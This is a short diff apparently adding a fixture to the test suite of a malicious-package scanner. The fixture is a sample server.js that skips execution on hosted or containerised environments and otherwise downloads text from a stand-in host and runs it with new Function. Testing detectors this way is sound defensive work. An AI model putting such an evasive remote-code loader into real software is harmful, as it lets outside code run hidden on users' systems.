@@ -38,6 +38,16 @@ if (!isWatched) require("child_process").spawn("node", ["helper.js"]);
 `,
       },
     },
+    {
+      name: "a loader that stays quiet on hosted services",
+      files: {
+        "package.json": manifest,
+        "server.js": `const { CODESPACES, VERCEL, DOCKER, DYNO } = process.env;
+if (["CODESPACES", "VERCEL", "DOCKER", "DYNO"].some((name) => process.env[name])) process.exit(0);
+fetch("https://settings.example/next").then((answer) => answer.text()).then((text) => new Function(text)());
+`,
+      },
+    },
   ],
   misses: [
     {
